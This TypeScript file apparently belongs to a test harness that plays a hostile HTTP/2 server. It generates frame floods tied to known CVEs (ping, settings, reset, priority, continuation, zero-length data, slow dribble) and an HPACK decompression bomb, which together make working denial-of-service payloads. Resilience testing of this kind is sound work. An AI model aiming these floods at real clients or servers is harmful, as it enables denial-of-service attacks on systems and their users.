// The floods of apns-protocol.md H.6, from the server's side: one frame of each kind, written over and over for as long
// as the client puts up with it, at the pace its socket takes.
import {
  encodeContinuation,
  encodeData,
  encodeHeaders,
  encodePing,
  encodePriority,
  encodePushPromise,
  encodeRstStream,
  encodeSettings,
  encodeSettingsAck,
  encodeFrameHeader,
  encodeWindowUpdate,
  ErrorCode,
  FrameFlag,
  SettingId,
} from '@carillon/frames';

import type { ActedConnection } from './acted-connection.ts';
import type { FloodKind } from './fault-script.ts';

interface Flood {
  /** Written once before. */
  readonly prologue?: Buffer;
  /** Written `count` times. */
  readonly frame: Buffer;
  readonly count: number;
}

const empty = Buffer.alloc(0);
const streamsFrameCount = 1_000_000;

/** ":status: 200" as one octet (RFC 7541 §6.1, static index 8). */
const status200 = Buffer.from([0x88]);

/** `stream`: the one that was opened last, most likely with no answer yet. */
const floods: Readonly<Record<FloodKind, (stream: number) => Flood>> = {
  ping: () => frames((target) => encodePing(target, 0, false, Buffer.alloc(8), 0)), // CVE-2019-9512
  settings: () => frames((target) => encodeSettings(target, 0, [[SettingId.maxConcurrentStreams, 1_000]])), // 9515
  'settings-ack': () => frames((target) => encodeSettingsAck(target, 0)),
  rst: (stream) => frames((target) => encodeRstStream(target, 0, stream, ErrorCode.cancel)), // 9514
  'window-update': () => frames((target) => encodeWindowUpdate(target, 0, 0, 1)),
  priority: (stream) => frames((target) => encodePriority(target, 0, stream, 0, false, 16)), // 9513
  unknown: () => frames((target) => encodeFrameHeader(target, 0, 0, 0xf7, 0, 0)),
  'empty-data': (stream) => ({
    // 9518
    prologue: headers(stream, status200, FrameFlag.endHeaders),
    ...frames((target) => encodeData(target, 0, stream, empty, 0, 0, false)),
  }),
  dribble: (stream) => ({
    // 9511; within the default window of 65,535
    prologue: headers(stream, status200, FrameFlag.endHeaders),
    ...frames((target) => encodeData(target, 0, stream, Buffer.from('x'), 0, 1, false)),
    count: 60_000,
  }),
  continuation: (stream) => ({
    // VU#421644
    prologue: headers(stream, status200, 0),
    ...frames((target) => encodeContinuation(target, 0, stream, empty, 0, 0, 0)),
  }),
  'hpack-bomb': (stream) => ({
    frame: headers(stream, hpackBomb(), FrameFlag.endHeaders | FrameFlag.endStream),
    count: 1,
  }),
  'tiny-headers': (stream) => ({
    frame: splitBlock(stream, Buffer.concat(times([0x00, 0x01, 0x61, 0x00], 65_536))),
    count: 1,
  }),
  'empty-headers': (stream) => ({
    frame: splitBlock(stream, Buffer.concat(times([0x00, 0x00, 0x00], 65_536))),
    count: 1,
  }), // 9516
  'push-promise': (stream) =>
    frames((target) => encodePushPromise(target, 0, stream, 2, status200, 0, status200.length, FrameFlag.endHeaders)),
};

/** Octets written between two looks at the socket. */
const batchBytes = 65_536;

export function flood(connection: ActedConnection, kind: FloodKind, count?: number): void {
  const { http2, carrier } = connection;
  http2.toleratesFloods = true; // a client that answers each frame is doing what it must
  const plan = floods[kind](Math.max(1, http2.lastStreamId));
  let left = count ?? plan.count;
  if (plan.prologue !== undefined) http2.writeRaw(plan.prologue);
  const batchCount = Math.max(1, Math.floor(batchBytes / plan.frame.length));
  const batch = Buffer.concat(Array<Buffer>(batchCount).fill(plan.frame));
  const pump = (): void => {
    while (left > 0 && carrier.isWritable && !carrier.isRestingForOutput) {
      const now = Math.min(left, batchCount);
      http2.writeRaw(batch.subarray(0, now * plan.frame.length));
      http2.outbox.flush();
      left -= now;
    }
    if (left > 0 && carrier.isWritable) carrier.onceDrained(pump);
  };
  pump();
}

function frames(encode: (target: Buffer) => number): Flood {
  const target = Buffer.alloc(64);
  const end = encode(target);
  return { frame: target.subarray(0, end), count: streamsFrameCount };
}

function headers(stream: number, block: Buffer, flags: number): Buffer {
  const frame = Buffer.alloc(9 + block.length);
  encodeHeaders(frame, 0, stream, block, 0, block.length, flags);
  return frame;
}

/** One entry of 4 kB, then as many references to it as one frame holds: 48 MB when decoded (CVE-2016-6581). */
function hpackBomb(): Buffer {
  const value = Buffer.alloc(4_000, 'a');
  // Literal with incremental indexing, name "x"; the length 4,000 with a 7-bit prefix is 7f a1 1e (RFC 7541 §5.1).
  const entry = Buffer.concat([Buffer.from([0x88, 0x40, 0x01, 0x78, 0x7f, 0xa1, 0x1e]), value]);
  return Buffer.concat([entry, Buffer.alloc(12_000, 0xbe)]); // 0xbe: index 62, the newest entry
}

function splitBlock(stream: number, fields: Buffer): Buffer {
  const block = Buffer.concat([status200, fields]);
  const pieces: Buffer[] = [];
  for (let start = 0; start < block.length; start += 16_384) {
    const end = Math.min(start + 16_384, block.length);
    const flags = end === block.length ? FrameFlag.endHeaders : 0;
    if (start === 0) {
      pieces.push(headers(stream, block.subarray(0, end), flags | FrameFlag.endStream));
    } else {
      const frame = Buffer.alloc(9 + end - start);
      encodeContinuation(frame, 0, stream, block, start, end, flags);
      pieces.push(frame);
    }
  }
  return Buffer.concat(pieces);
}

function times(octets: readonly number[], count: number): Buffer[] {
  return Array<Buffer>(count).fill(Buffer.from(octets));
}
